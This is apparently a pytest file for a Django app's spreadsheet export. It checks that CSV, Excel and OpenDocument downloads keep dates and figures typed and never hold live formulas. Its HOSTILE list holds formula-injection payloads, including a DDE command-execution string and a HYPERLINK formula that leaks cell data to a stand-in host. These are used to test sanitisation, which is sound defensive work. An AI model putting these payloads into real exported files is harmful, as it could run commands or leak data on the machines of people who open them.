"""Downloads hold exactly what is on the screen, typed, and nothing in them can run."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.http import FileResponse
from hypothesis import given, settings
from hypothesis import strategies as st
from odf import opendocument, table, teletype
from odf.namespaces import OFFICENS
from openpyxl.utils.escape import unescape

from carewright.ui.exports import TooManyRows, download, sheets
from carewright.ui.lists import ListColumn, ListFilter, Listing
from carewright.ui.rows import Tag
from carewright_engine.values.inert import ACTIVE, inert

# What people have put into names to make a spreadsheet run something.
HOSTILE = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?leak="&A1,"Click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=\u00001+1",
    "\u0000=1+1",
)


@dataclass(frozen=True)
class Row:
    name: str
    people: int | None = None
    share: float | None = None
    hours: Decimal | None = None
    cost: int | None = None
    day: date | None = None
    moment: datetime | None = None
    is_open: bool | None = None
    state: Tag | None = None


LISTING = Listing(
    name="Odd / names: all",
    caption="A caption far too long for the name of a sheet [2026]",
    columns=(
        ListColumn("name", "Name", sort="name"),
        ListColumn("people", "People", "number", under="name"),
        ListColumn("share", "Share", "percent"),
        ListColumn("hours", "Hours", "number", places=2),
        ListColumn("cost", "Cost", "pounds", sort="cost"),
        ListColumn("day", "Day", "date"),
        ListColumn("moment", "Moment", "datetime"),
        ListColumn("is_open", "Open", "yes_no"),
        ListColumn("state", "State", "tag"),
    ),
    filters=(ListFilter("name", "Name"),),
    sort="name",
)

FULL = Row(
    "Bracken House",
    -12,
    0.25,
    Decimal("-7.50"),
    -2_205,
    date(2026, 6, 3),
    datetime(2026, 6, 3, 11, 0, tzinfo=UTC),
    True,
    Tag("=late", "late"),
)


def body(form: str, rows: Iterable[Any], **query: str) -> bytes:
    return finished(download(LISTING.asked({"download": form, **query}), rows))


def finished(response: FileResponse) -> bytes:
    """What the file holds. Closing the whole response would also tidy up database connections."""
    content = b"".join(response.streaming_content)
    response.file_to_stream.close()
    return content


def as_csv(rows: Iterable[Any], **query: str) -> list[list[str]]:
    text = body("csv", rows, **query).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def as_xlsx(rows: Iterable[Any], **query: str) -> list[tuple[Any, ...]]:
    book = openpyxl.load_workbook(io.BytesIO(body("xlsx", rows, **query)))
    page = book.active
    found = [tuple(_shown(cell.value) for cell in row) for row in page.iter_rows()]
    kinds = {cell.data_type for row in page.iter_rows() for cell in row}
    assert "f" not in kinds, "a cell holds a formula"
    book.close()
    return found


def _shown(value: Any) -> Any:
    """A cell as Excel shows it: it writes some characters as _x000D_ and reads them back."""
    return unescape(value) if isinstance(value, str) else value


def as_ods(rows: Iterable[Any], **query: str) -> list[list[Any]]:
    document = opendocument.load(io.BytesIO(body("ods", rows, **query)))
    return [
        [_ods_value(cell) for cell in row.getElementsByType(table.TableCell)]
        for row in document.spreadsheet.getElementsByType(table.TableRow)
    ]


def _ods_value(cell: Any) -> Any:
    assert cell.getAttribute("formula") is None
    kind = cell.getAttribute("valuetype")
    if kind in ("float", "percentage"):
        return Decimal(cell.getAttrNS(OFFICENS, "value"))
    if kind == "date":
        return cell.getAttribute("datevalue")
    if kind == "string":
        return "\n".join(teletype.extractText(line) for line in cell.childNodes)
    return None


def test_csv_opens_in_spreadsheets_as_utf_8() -> None:
    assert body("csv", [Row("Tŷ Gwyn")]).startswith(b"\xef\xbb\xbf")
    assert as_csv([Row("Tŷ Gwyn")])[1][0] == "Tŷ Gwyn"


def test_csv_holds_figures_as_figures_and_dates_as_dates() -> None:
    head, row = as_csv([FULL])
    assert head[:3] == ["Name", "People", "Share"]
    assert row == [
        *("Bracken House", "-12", "0.25", "-7.50", "-22.05"),
        *("2026-06-03", "2026-06-03T12:00+01:00", "Yes", "'=late"),
    ]


def test_negative_figures_stay_figures_everywhere() -> None:
    assert b",-12," in body("csv", [FULL])
    assert as_xlsx([FULL])[1][1:5] == (-12, 0.25, -7.5, -22.05)
    assert as_ods([FULL])[1][1:5] == [-12, Decimal("0.25"), Decimal("-7.50"), Decimal("-22.05")]


def test_excel_holds_dates_that_can_be_reckoned_with() -> None:
    row = as_xlsx([FULL])[1]
    assert row[5] == datetime(2026, 6, 3)  # noqa: DTZ001 (a spreadsheet knows no time zones)
    assert row[6] == datetime(2026, 6, 3, 12, 0)  # noqa: DTZ001
    assert row[7:] == ("Yes", "'=late")


def test_opendocument_holds_dates_that_can_be_reckoned_with() -> None:
    assert as_ods([FULL])[1][5:7] == ["2026-06-03", "2026-06-03T12:00:00"]


def test_what_is_missing_is_an_empty_cell_and_never_nought() -> None:
    assert as_csv([Row("A")])[1] == ["A", *[""] * 8]
    assert as_xlsx([Row("A")])[1] == ("A", *[None] * 8)
    assert as_ods([Row("A")])[1] == ["A", *[None] * 8]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_can_run_in_a_spreadsheet(text: str) -> None:
    rows = [Row(text), Row("harmless", state=Tag(text))]
    cells = [
        *(cell for row in as_csv(rows) for cell in row),
        *(cell for row in as_xlsx(rows) for cell in row),
        *(cell for row in as_ods(rows) for cell in row),
    ]
    for cell in cells:
        assert not str(cell or "").startswith(ACTIVE)


def test_text_cannot_leave_its_cell_where_semicolons_or_tabs_part_cells() -> None:
    text = body("csv", [Row('harmless";=1+1;"x\t=2')]).decode("utf-8-sig")
    for separator in ";\t":
        # A reader with another separator still finds the text within its quotes.
        (name, *_rest) = next(csv.reader([text.split("\r\n")[1]], delimiter=separator))
        assert name.startswith("harmless")
        assert not any(part.startswith("=") for part in [name, *_rest])


def test_headings_are_inert_as_well() -> None:
    odd = Listing("x", "X", (ListColumn("name", "=1+1"),))
    assert b"'=1+1" in finished(download(odd.asked({"download": "csv"}), [Row("a")]))


@settings(deadline=None)
@given(st.text())
def test_inert_text_never_starts_a_formula_and_loses_nothing_that_can_be_seen(text: str) -> None:
    safe = inert(text)
    assert not safe.startswith(ACTIVE)
    assert len(safe) - len(text.replace("\r\n", "\n")) in (0, 1)


@settings(deadline=None)
@given(st.lists(st.text(max_size=40), max_size=4))
def test_any_text_survives_the_journey_through_each_format(texts: list[str]) -> None:
    rows = [Row(text) for text in sorted(texts, key=str.casefold)]
    wanted = [inert(row.name) for row in rows]
    assert [row[0] for row in as_csv(rows)[1:]] == wanted
    assert [row[0] or "" for row in as_xlsx(rows)[1:]] == wanted
    assert [row[0] for row in as_ods(rows)[1:]] == wanted


def test_spaces_and_lines_of_a_text_are_kept_in_opendocument() -> None:
    assert as_ods([Row(" two  spaces\nand a line <&>")])[1][0] == " two  spaces\nand a line <&>"


def test_a_download_keeps_filter_and_order_and_takes_all_pages() -> None:
    rows = [Row(f"{'odd' if n % 2 else 'even'} {n:03d}", cost=n) for n in range(240)]
    cells = as_csv(rows, name="odd", sort="-cost", page="2")
    assert len(cells) == 121
    assert cells[1][0] == "odd 239"
    assert len(as_xlsx(rows, name="odd")) == len(as_ods(rows, name="odd")) == 121


def test_infinite_and_undefined_figures_are_left_empty() -> None:
    rows = [Row("a", share=float("nan")), Row("b", share=float("inf"))]
    assert [row[2] for row in as_csv(rows)[1:]] == ["", ""]
    assert [row[2] for row in as_xlsx(rows)[1:]] == [None, None]


def test_a_number_too_long_for_a_spreadsheet_is_kept_as_text() -> None:
    rows = [Row("a", people=12_345_678_901_234_567)]
    assert as_xlsx(rows)[1][1] == "12345678901234567"


def test_a_text_too_long_for_excel_is_cut_and_not_lost() -> None:
    assert len(as_xlsx([Row("x" * 40_000)])[1][0]) == 32_767


@pytest.mark.parametrize("form", ["xlsx", "ods"])
def test_more_rows_than_a_sheet_can_hold_are_refused_with_a_way_out(
    form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheets, "MOST_ROWS", 3)
    with pytest.raises(TooManyRows, match="Download the list as CSV instead"):
        body(form, [Row(str(n)) for n in range(4)])
    assert len(as_csv([Row(str(n)) for n in range(4)])) == 5


@pytest.mark.parametrize("form", ["csv", "xlsx", "ods"])
def test_the_file_has_a_plain_name_and_its_kind(form: str) -> None:
    response = download(LISTING.asked({"download": form}), [FULL])
    assert response["Content-Disposition"] == f'attachment; filename="odd-names-all.{form}"'
    assert int(response["Content-Length"]) == len(finished(response))


def test_equal_lists_give_equal_bytes_in_the_open_formats() -> None:
    for form in ("csv", "ods"):
        assert body(form, [FULL]) == body(form, [FULL])
